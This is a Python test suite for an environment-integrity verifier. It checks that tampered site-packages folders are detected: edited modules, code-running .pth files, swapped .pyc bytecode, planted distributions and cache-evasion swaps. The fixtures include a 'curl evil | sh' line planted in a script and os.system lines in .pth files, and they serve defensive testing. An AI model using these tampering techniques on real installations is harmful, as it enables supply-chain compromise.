"""``env verify`` on a real pip-installed site folder, clean and tampered in each way."""

from __future__ import annotations

import base64
import hashlib
import os
import shutil
import sys
import time
from collections.abc import Callable, Iterator
from importlib.machinery import EXTENSION_SUFFIXES
from pathlib import Path
from typing import Any

import pytest

from tests.test_env_support import (
    FLIPPED_SOURCE,
    NAME,
    OPTIM_SOURCE,
    VERSION,
    fresh_site,
    pyc_path,
    record_hash,
    run_in_subprocess,
    write_swapped_pyc,
)
from trainguard import filestate
from trainguard.digest_cache import DigestCache
from trainguard.env.allow import load_allowlist
from trainguard.env.verify import EnvOptions, verify_environment
from trainguard.findings import Finding, ScanReport, Severity

# site folder -> the cache a verify of it made before the test changed anything
_WARM: dict[Path, str] = {}


def verify(site: Path, **options: object) -> ScanReport:
    """Verify ``site``; for the "warm" variant of a test, with the cache that a verify
    of the untouched site left (so an unchanged re-verify would reuse its verdict)."""
    if site in _WARM and "cache" not in options:
        options["cache"] = DigestCache(_WARM[site])
    return verify_environment(EnvOptions(paths=[str(site)], **options)).report  # type: ignore[arg-type]


def by_rule(report: ScanReport, rule: str) -> list[Finding]:
    return [f for f in report.findings if f.rule == rule]


def rules_of(report: ScanReport) -> set[str]:
    return {f.rule for f in report.findings}


@pytest.fixture(autouse=True)
def no_racy_window(monkeypatch: pytest.MonkeyPatch) -> None:
    """The sites here are copied a moment before they are verified; the racy window
    (a file changed in the last 2 s is not remembered) would keep every cache empty."""
    monkeypatch.setattr(filestate, "RACY_NS", 0)


@pytest.fixture(params=["cold", "warm"])
def site(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Path]:
    """A freshly installed site folder.  "warm": verified once before the test changes
    it, so every tamper test also proves that a cached verdict never hides a change."""
    folder = fresh_site(tmp_path)
    if request.param == "warm":
        cache_file = str(tmp_path / "warm-cache" / "env.json")
        first = verify_environment(EnvOptions(paths=[str(folder)], cache=DigestCache(cache_file)))
        assert first.stats.reused_from is None
        _WARM[folder] = cache_file
    yield folder
    _WARM.pop(folder, None)


def test_clean_install_verifies_clean(site: Path) -> None:
    report = verify(site)
    assert report.exit_code() == 0
    # The only finding: the package's own .pth runs code at start-up, unchanged.
    assert rules_of(report) == {"TG606"}
    (owned_pth,) = by_rule(report, "TG606")
    assert owned_pth.severity == Severity.INFO
    assert owned_pth.file == str(site / "tgdemo_boot.pth")
    dist = next(r for r in report.files if r.path.endswith(f"{NAME}-{VERSION}.dist-info"))
    assert dist.format == f"distribution {NAME} {VERSION}"


def test_edited_module_is_reported_with_both_digests(site: Path) -> None:
    optim = site / NAME / "optim.py"
    optim.write_text(FLIPPED_SOURCE)
    report = verify(site)
    (edited,) = by_rule(report, "TG601")
    assert edited.file == str(optim)
    assert edited.severity == Severity.HIGH
    assert edited.evidence["sha256"] == hashlib.sha256(FLIPPED_SOURCE.encode()).hexdigest()
    assert edited.evidence["record_sha256"] == hashlib.sha256(OPTIM_SOURCE.encode()).hexdigest()
    assert report.exit_code() == 1


def test_deleted_file_is_missing(site: Path) -> None:
    (site / NAME / "data.txt").unlink()
    report = verify(site)
    (missing,) = by_rule(report, "TG602")
    assert missing.file == str(site / NAME / "data.txt")
    assert report.exit_code() == 0  # medium: fails only with --strict
    assert verify(site, fail_on=Severity.MEDIUM).exit_code() == 1


def test_unlisted_files_medium_for_code_low_for_data(site: Path) -> None:
    (site / NAME / "extra.py").write_text("X = 1\n")
    (site / NAME / "notes.txt").write_text("hello\n")
    report = verify(site)
    found = {Path(f.file).name: f for f in by_rule(report, "TG603")}
    assert found["extra.py"].severity == Severity.MEDIUM
    assert found["notes.txt"].severity == Severity.LOW
    assert found["extra.py"].evidence["sha256"] == hashlib.sha256(b"X = 1\n").hexdigest()


def test_extension_module_shadowing_a_listed_source_is_high(site: Path) -> None:
    shadow = site / NAME / f"optim{EXTENSION_SUFFIXES[0]}"
    shadow.write_bytes(b"\x7fELF not really")
    report = verify(site)
    (found,) = by_rule(report, "TG604")
    assert found.file == str(shadow)
    assert found.evidence["shadows"] == str(site / NAME / "optim.py")
    assert report.exit_code() == 1


def test_package_folder_shadowing_a_listed_module_is_high(site: Path) -> None:
    (site / NAME / "optim").mkdir()
    (site / NAME / "optim" / "__init__.py").write_text("step = None\n")
    assert by_rule(verify(site), "TG604")


def test_top_level_module_earlier_on_the_path_shadows(tmp_path: Path, site: Path) -> None:
    early = tmp_path / "early"
    early.mkdir()
    (early / f"{NAME}.py").write_text("X = 1\n")
    report = verify_environment(EnvOptions(paths=[str(early), str(site)])).report
    (found,) = by_rule(report, "TG604")
    assert found.evidence["shadows"] == str(site / NAME / "__init__.py")


@pytest.mark.parametrize("line", ["import os; os.system('true')", "import\tos"])
def test_pth_that_runs_code_is_high(site: Path, line: str) -> None:
    evil = site / "zz-evil.pth"
    evil.write_text(f"# looks harmless\n{line}\n")
    report = verify(site)
    (found,) = by_rule(report, "TG605")
    assert found.file == str(evil)
    assert found.severity == Severity.HIGH
    assert found.trigger == line
    assert "TG603" not in rules_of(report)  # reported once, as a .pth
    assert report.exit_code() == 1


def test_pth_that_adds_paths_inside_is_medium_and_comments_are_nothing(site: Path) -> None:
    (site / "vendored").mkdir()
    (site / "paths.pth").write_text("vendored\n")
    (site / "comments.pth").write_text("# nothing here\n\n")
    report = verify(site)
    (found,) = by_rule(report, "TG607")
    assert found.file == str(site / "paths.pth")
    assert found.severity == Severity.MEDIUM
    assert not [f for f in report.findings if f.file.endswith("comments.pth")]
    assert report.exit_code() == 0


def test_owned_pth_edited_is_high(site: Path) -> None:
    (site / "tgdemo_boot.pth").write_text("import os; os.system('true')\n")
    report = verify(site)
    assert {"TG601", "TG605"} <= rules_of(report)
    assert "TG606" not in rules_of(report)


def test_sitecustomize_and_usercustomize_are_high(site: Path) -> None:
    (site / "sitecustomize.py").write_text("import os\n")
    (site / "usercustomize").mkdir()
    (site / "usercustomize" / "__init__.py").write_text("import os\n")
    report = verify(site)
    found = {f.trigger for f in by_rule(report, "TG608")}
    assert found == {"sitecustomize", "usercustomize"}
    assert report.exit_code() == 1


def test_sitecustomize_is_looked_for_on_the_search_path(tmp_path: Path, site: Path) -> None:
    other = tmp_path / "stdlib-like"
    other.mkdir()
    (other / "sitecustomize.py").write_text("import os\n")
    report = verify(site, search_path=[str(other)])
    (found,) = by_rule(report, "TG608")
    assert found.file == str(other / "sitecustomize.py")


def test_swapped_pyc_is_caught_only_by_the_pyc_check(site: Path) -> None:
    optim = site / NAME / "optim.py"
    write_swapped_pyc(optim, FLIPPED_SOURCE)
    # The attack works: Python runs the swapped bytecode (in a child process).
    assert run_in_subprocess(site, "import tgdemo.optim as o; print(o.step(1.0, 1.0))") == "1.1"
    # RECORD has no hash for .pyc files: the RECORD check alone sees nothing.
    assert verify(site, check_pyc=False).exit_code() == 0
    report = verify(site)
    (found,) = by_rule(report, "TG610")
    assert found.file == str(pyc_path(optim))
    assert found.severity == Severity.CRITICAL
    assert report.exit_code() == 1


def test_swapped_hash_based_unchecked_pyc_is_caught(site: Path) -> None:
    optim = site / NAME / "optim.py"
    target = write_swapped_pyc(optim, FLIPPED_SOURCE)
    data = bytearray(target.read_bytes())
    data[4:8] = (1).to_bytes(4, "little")  # hash-based, source never checked
    data[8:16] = b"\0" * 8
    target.write_bytes(bytes(data))
    assert by_rule(verify(site), "TG610")


def test_stale_swapped_pyc_is_low(site: Path) -> None:
    optim = site / NAME / "optim.py"
    target = write_swapped_pyc(optim, FLIPPED_SOURCE)
    data = bytearray(target.read_bytes())
    data[8:12] = (12345).to_bytes(4, "little")  # wrong mtime: the interpreter recompiles
    target.write_bytes(bytes(data))
    report = verify(site)
    (found,) = by_rule(report, "TG612")
    assert found.severity == Severity.LOW
    assert "TG610" not in rules_of(report)


def test_orphan_and_sourceless_pycs(site: Path) -> None:
    cache = site / NAME / "__pycache__"
    (cache / f"gone.{sys.implementation.cache_tag}.pyc").write_bytes(
        (cache / f"optim.{sys.implementation.cache_tag}.pyc").read_bytes()
    )
    (site / NAME / "hidden.pyc").write_bytes(
        (cache / f"optim.{sys.implementation.cache_tag}.pyc").read_bytes()
    )
    report = verify(site)
    assert [Path(f.file).name for f in by_rule(report, "TG611")] == ["hidden.pyc"]
    assert [Path(f.file).name for f in by_rule(report, "TG612")] == [
        f"gone.{sys.implementation.cache_tag}.pyc"
    ]


def test_other_interpreters_pycs_are_ignored(site: Path) -> None:
    (site / NAME / "__pycache__" / "optim.cpython-27.pyc").write_bytes(b"junk")
    assert verify(site).exit_code() == 0
    assert len(verify(site).findings) == 1


def test_distribution_without_record_is_info_and_claims_its_files(site: Path) -> None:
    egg = site / "olddist-1.0.egg-info"
    egg.mkdir()
    (egg / "PKG-INFO").write_text("Metadata-Version: 1.1\nName: olddist\nVersion: 1.0\n")
    (egg / "top_level.txt").write_text("olddist\n")
    (site / "olddist").mkdir()
    (site / "olddist" / "__init__.py").write_text("X = 1\n")
    report = verify(site)
    (found,) = by_rule(report, "TG613")
    assert found.severity == Severity.INFO
    assert "olddist 1.0 has no RECORD" in found.message
    assert "TG603" not in rules_of(report)


def test_weak_or_malformed_record_rows(site: Path) -> None:
    record = site / f"{NAME}-{VERSION}.dist-info" / "RECORD"
    text = record.read_text()
    data = (site / NAME / "data.txt").read_bytes()
    weak = hashlib.md5(data).digest()  # noqa: S324 - the weak hash under test
    md5 = "md5=" + base64.urlsafe_b64encode(weak).rstrip(b"=").decode()
    text = text.replace(f"{NAME}/data.txt,{record_hash(data)}", f"{NAME}/data.txt,{md5}")
    record.write_text(text + "only,two\n")
    messages = [f.message for f in by_rule(verify(site), "TG614")]
    assert any("weak hash md5" in m for m in messages)
    assert any("2 fields" in m for m in messages)


def test_allowlist_lowers_only_the_exact_content(tmp_path: Path, site: Path) -> None:
    data = site / NAME / "data.txt"
    data.write_bytes(b"rewritten by the image build\n")
    good = hashlib.sha256(data.read_bytes()).hexdigest()
    allow = tmp_path / "allow.toml"
    allow.write_text(
        f'[[allow]]\npath = "*/{NAME}/data.txt"\nrule = "TG601"\n'
        f'sha256 = "{good}"\nreason = "our image rewrites it"\n'
    )
    report = verify(site, allowlist=load_allowlist(str(allow)))
    (found,) = by_rule(report, "TG601")
    assert found.severity == Severity.INFO
    assert "our image rewrites it" in found.evidence["allowed"]
    assert report.exit_code() == 0
    data.write_bytes(b"changed again\n")
    assert verify(site, allowlist=load_allowlist(str(allow))).exit_code() == 1


def test_cache_speeds_up_but_never_hides_an_edit(tmp_path: Path) -> None:
    site = fresh_site(tmp_path)
    cache_file = str(tmp_path / "cache" / "env.json")
    first = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert first.stats.cache_hits == 0 and first.stats.reused_from is None
    # Nothing changed: the whole verdict is reused, without reading a file.
    again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert again.stats.reused_from is not None
    assert again.stats.reused_from <= time.time()
    assert again.stats.hashed_files == 0 and again.stats.pycs_checked == 0
    assert again.report.exit_code() == 0
    assert again.report.findings == first.report.findings
    assert [(r.path, r.format, r.size) for r in again.report.files] == [
        (r.path, r.format, r.size) for r in first.report.files
    ]
    # Same size, mtime put back: only the ctime tells, and both caches key on it.
    optim = site / NAME / "optim.py"
    st = optim.stat()
    optim.write_text(FLIPPED_SOURCE)
    os.utime(optim, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert optim.stat().st_size == st.st_size
    edited = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert edited.stats.reused_from is None
    assert by_rule(edited.report, "TG601")
    # Every other file's digest still came from the cache: only the edited one was read.
    assert edited.stats.hashed_files == 1 and edited.stats.cache_hits > 0


def test_files_changed_in_the_last_seconds_are_not_remembered(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(filestate, "RACY_NS", 3600 * 10**9)  # every file is "just changed"
    site = fresh_site(tmp_path)
    cache_file = str(tmp_path / "cache" / "env.json")
    for _ in range(2):
        result = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
        assert result.stats.reused_from is None and result.stats.cache_hits == 0
        assert result.stats.hashed_files > 0


def test_reused_verdict_gets_the_allowlist_of_today(tmp_path: Path) -> None:
    site = fresh_site(tmp_path)
    (site / NAME / "notes.txt").write_text("added after install\n")
    cache_file = str(tmp_path / "cache" / "env.json")
    first = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    (unlisted,) = by_rule(first.report, "TG603")
    allow = tmp_path / "allow.toml"
    allow.write_text(f'[[allow]]\nrule = "TG603"\npath = "{unlisted.file}"\nreason = "ours"\n')
    options = EnvOptions(
        paths=[str(site)], cache=DigestCache(cache_file), allowlist=load_allowlist(str(allow))
    )
    again = verify_environment(options)
    assert again.stats.reused_from is not None
    (allowed,) = by_rule(again.report, "TG603")
    assert "ours" in allowed.evidence["allowed"]


def test_verdict_is_per_options(tmp_path: Path) -> None:
    site = fresh_site(tmp_path)
    cache_file = str(tmp_path / "cache" / "env.json")
    verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    no_pyc = EnvOptions(paths=[str(site)], check_pyc=False, cache=DigestCache(cache_file))
    assert verify_environment(no_pyc).stats.reused_from is None
    # Each set of options keeps its own verdict: alternating does not evict the other.
    default = EnvOptions(paths=[str(site)], cache=DigestCache(cache_file))
    assert verify_environment(default).stats.reused_from is not None
    no_pyc = EnvOptions(paths=[str(site)], check_pyc=False, cache=DigestCache(cache_file))
    assert verify_environment(no_pyc).stats.reused_from is not None
    # --full: the cache is written but nothing is read from it, the verdict included.
    full = EnvOptions(paths=[str(site)], cache=DigestCache(cache_file, read=False))
    assert verify_environment(full).stats.reused_from is None


def test_linked_folder_is_never_fingerprinted(tmp_path: Path) -> None:
    """The walk does not enter a linked folder, so it cannot tell whether its files changed."""
    site = fresh_site(tmp_path)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (site / "linked").symlink_to(outside, target_is_directory=True)
    cache_file = str(tmp_path / "cache" / "env.json")
    for _ in range(2):
        result = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
        assert result.stats.reused_from is None


def test_cache_is_ignored_when_others_can_write_it(tmp_path: Path, site: Path) -> None:
    cache_file = tmp_path / "env.json"
    verify(site, cache=DigestCache(str(cache_file)))
    cache_file.chmod(0o666)
    assert DigestCache(str(cache_file)).disabled is None  # not read yet
    untrusted = DigestCache(str(cache_file))
    assert untrusted.digests("x", filestate.Identity(0, 0, 0, 0, 0), frozenset({"sha256"})) == {}
    assert untrusted.disabled is not None and "others can write" in untrusted.disabled
    again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(str(cache_file))))
    assert again.stats.cache_hits == 0


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_special_files_are_reported_never_opened(site: Path) -> None:
    os.mkfifo(site / NAME / "pipe")
    data = site / NAME / "data.txt"
    data.unlink()
    os.mkfifo(data)  # a listed file replaced by a FIFO: reading it would block forever
    report = verify(site)
    assert any(f.file == str(site / NAME / "pipe") for f in by_rule(report, "TG603"))
    assert any(f.file == str(data) for f in by_rule(report, "TG601"))


def test_unreadable_listed_file_makes_the_check_incomplete(site: Path) -> None:
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        pytest.skip("root reads any file")
    (site / NAME / "data.txt").chmod(0)
    report = verify(site)
    assert report.errors
    assert report.exit_code() == 2


def test_read_error_on_a_listed_file_is_an_error_not_clean(
    site: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from trainguard.env import digests as env_hash

    real = env_hash.hash_file
    target = str(site / NAME / "data.txt")

    def failing(path: str, *args: object) -> env_hash.Digests:
        if path == target:
            raise PermissionError(13, "Permission denied")
        return real(path, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(env_hash, "hash_file", failing)
    # No cache: the file is unchanged on disk, so a warm cache would never read it.
    report = verify(site, cache=None)
    (dist,) = [r for r in report.files if r.error]
    assert "data.txt: Permission denied" in (dist.error or "")
    assert report.exit_code() == 2


def test_stdlib_pycs_are_checked_and_its_site_packages_skipped(tmp_path: Path, site: Path) -> None:
    from trainguard.env.gather import gather
    from trainguard.env.sort import Scope

    stdlib = tmp_path / "lib" / "python3"
    (stdlib / "site-packages").mkdir(parents=True)
    os_py = stdlib / "fakeos.py"
    os_py.write_text("def getcwd():\n    return '/'\n")
    write_swapped_pyc(os_py, "def getcwd():\n    return '/tmp'\n")
    (stdlib / "site-packages" / "ignored.py").write_text("X = 1\n")
    ev = gather(Scope(roots=[str(site)], search=[str(site)], stdlib=[str(stdlib)]), None, None)
    mismatches = [f.file for f in ev.findings if f.rule == "TG610"]
    assert mismatches == [str(pyc_path(os_py))]
    assert not [f for f in ev.findings if "ignored.py" in f.file]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifo_planted_as_a_pyc_does_not_hang(site: Path) -> None:
    fifo = site / NAME / "__pycache__" / f"data.{sys.implementation.cache_tag}.pyc"
    os.mkfifo(fifo)
    report = verify(site)
    assert any(f.file == str(fifo) for f in by_rule(report, "TG603"))


def test_record_rows_in_sha512_are_verified(site: Path) -> None:
    record = site / f"{NAME}-{VERSION}.dist-info" / "RECORD"
    data = site / NAME / "data.txt"
    content = data.read_bytes()
    sha512 = (
        "sha512=" + base64.urlsafe_b64encode(hashlib.sha512(content).digest()).rstrip(b"=").decode()
    )
    record.write_text(
        record.read_text().replace(
            f"{NAME}/data.txt,{record_hash(content)}", f"{NAME}/data.txt,{sha512}"
        )
    )
    assert verify(site).exit_code() == 0
    data.write_bytes(b"other\n")
    (found,) = by_rule(verify(site), "TG601")
    assert found.evidence["record_sha512"] == hashlib.sha512(content).hexdigest()


def test_cli_says_when_it_reused_a_verdict(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from trainguard.cli.main import main

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    site = fresh_site(tmp_path)
    argv = ["env", "verify", "--path", str(site), "--no-progress", "-f", "json"]
    assert main(argv) == 0
    first = capsys.readouterr()
    assert "nothing has changed" not in first.err
    assert main(argv) == 0
    again = capsys.readouterr()
    assert "nothing has changed since the verify of" in again.err
    assert again.out == first.out  # the same report
    assert main([*argv, "--full"]) == 0
    assert "nothing has changed" not in capsys.readouterr().err


def test_empty_metadata_folder_is_reported(site: Path) -> None:
    """Folders count by their names too: a warm verdict must not hide a new empty one."""
    (site / "ghost-6.6.dist-info").mkdir()
    report = verify(site)
    assert [Path(f.file).name for f in by_rule(report, "TG613")] == ["ghost-6.6.dist-info"]


def test_folder_in_place_of_a_pycs_source(site: Path) -> None:
    """A pyc whose "source" is a folder: the folder changes the verdict, warm or cold."""
    cache = site / NAME / "__pycache__"
    (cache / f"ghost.{sys.implementation.cache_tag}.pyc").write_bytes(
        (cache / f"optim.{sys.implementation.cache_tag}.pyc").read_bytes()
    )
    before = verify(site)
    (site / NAME / "ghost.py").mkdir()
    after = verify(site)
    assert rules_of(before) != rules_of(after)


def _around_observe(monkeypatch: pytest.MonkeyPatch, act: Callable[[], None]) -> Callable[[], None]:
    """Run ``act`` right after the verify fingerprints the folders, before it reads them;
    returns what puts the verify back as it was."""
    from trainguard.env import verify as environment

    real = environment.observe

    def observe_then_act(scope: Any) -> Any:
        observed = real(scope)
        act()
        return observed

    monkeypatch.setattr(environment, "observe", observe_then_act)
    return lambda: monkeypatch.setattr(environment, "observe", real)


def test_folder_swapped_in_while_the_verify_reads_is_not_remembered(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attack: tamper, then swap a clean copy in (by renames, which keep every file's
    stat) only while a verify reads, and back after.  That verify reads the clean copy;
    its verdict must not be stored under the tampered folder's fingerprint."""
    site = fresh_site(tmp_path)
    package = site / NAME
    clean = tmp_path / "clean-copy"
    shutil.copytree(package, clean)
    (package / "optim.py").write_text(FLIPPED_SOURCE)
    parked = tmp_path / "parked"

    def swap_in_clean() -> None:
        package.rename(parked)
        clean.rename(package)

    cache_file = str(tmp_path / "cache" / "env.json")
    restore = _around_observe(monkeypatch, swap_in_clean)
    fooled = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert not by_rule(fooled.report, "TG601")  # this run was fooled, as any reader would be
    restore()
    package.rename(clean)
    parked.rename(package)
    again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert again.stats.reused_from is None
    assert by_rule(again.report, "TG601")


def test_distribution_added_while_the_verify_reads_is_not_remembered(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A RECORD that vouches for a planted module exists only while the verify lists
    distributions: the verdict that trusted it must not outlive it."""
    site = fresh_site(tmp_path)
    evil = site / "evil.py"
    evil.write_text("import os\n")
    meta = site / "evil-1.0.dist-info"

    def plant_record() -> None:
        meta.mkdir()
        (meta / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        data = evil.read_bytes()
        (meta / "RECORD").write_text(f"evil.py,{record_hash(data)},{len(data)}\n")

    cache_file = str(tmp_path / "cache" / "env.json")
    restore = _around_observe(monkeypatch, plant_record)
    fooled = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert not by_rule(fooled.report, "TG603")
    restore()
    shutil.rmtree(meta)
    again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert again.stats.reused_from is None
    assert [f.file for f in by_rule(again.report, "TG603")] == [str(evil)]


@pytest.mark.parametrize("hashed", [True, False], ids=["hashed row, edited", "hashless, removed"])
def test_record_row_outside_the_site_folder_is_watched(tmp_path: Path, hashed: bool) -> None:
    """Console scripts and data files live in ../bin or ../share: a change there must end
    the reuse as well, whether RECORD gives their hash or only names them."""
    site = fresh_site(tmp_path)
    outside = tmp_path / "share" / "tgdemo-tool"
    outside.parent.mkdir()
    outside.write_text("#!/bin/sh\necho tool\n")
    data = outside.read_bytes()
    row = f"{record_hash(data)},{len(data)}" if hashed else ","
    record = site / f"{NAME}-{VERSION}.dist-info" / "RECORD"
    record.write_text(record.read_text() + f"../share/tgdemo-tool,{row}\n")
    cache_file = str(tmp_path / "cache" / "env.json")
    first = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert first.report.exit_code() == 0
    again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert again.stats.reused_from is not None
    if hashed:
        outside.write_text("#!/bin/sh\ncurl evil | sh\n")
    else:
        outside.unlink()
    changed = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert changed.stats.reused_from is None
    rule = "TG601" if hashed else "TG602"
    assert [f.file for f in by_rule(changed.report, rule)] == [str(outside)]


def test_unusable_verdict_documents_are_misses(tmp_path: Path) -> None:
    site = fresh_site(tmp_path)
    cache = DigestCache(str(tmp_path / "cache" / "env.json"))
    verify_environment(EnvOptions(paths=[str(site)], cache=cache))
    (stored,) = (tmp_path / "cache").glob("env.verdict-*.json")
    good = stored.read_text()
    for bad in (
        good.replace('"files":', '"files":Infinity,"x":'),
        good.replace('"outside":[', '"outside":["a\\u0000b",'),
        '{"tag":' + "[" * 100_000 + "]" * 100_000 + "}",
        good.replace('"unreadable":[]', '"unreadable":"ab"'),
        "not json",
    ):
        stored.write_text(bad)
        stored.chmod(0o600)
        result = verify_environment(
            EnvOptions(paths=[str(site)], cache=DigestCache(cache.path))  # type: ignore[arg-type]
        )
        assert result.stats.reused_from is None
        assert result.report.exit_code() == 0


def test_a_run_without_the_pyc_check_keeps_the_cached_pyc_verdicts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from trainguard.env import gather as env_gather

    site = fresh_site(tmp_path)
    cache_file = str(tmp_path / "cache" / "env.json")
    verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    no_pyc = EnvOptions(paths=[str(site)], check_pyc=False, cache=DigestCache(cache_file))
    verify_environment(no_pyc)
    (site / NAME / "data.txt").write_text("changed\n")  # the stored verdict no longer holds
    compiled: list[int] = []
    real = env_gather.check_pycs

    def counting(jobs: Any, **kwargs: Any) -> Any:
        compiled.append(len(jobs))
        return real(jobs, **kwargs)

    monkeypatch.setattr(env_gather, "check_pycs", counting)
    again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
    assert again.stats.reused_from is None and again.stats.pycs_checked > 0
    assert compiled == [0]  # every pyc verdict still came from the cache
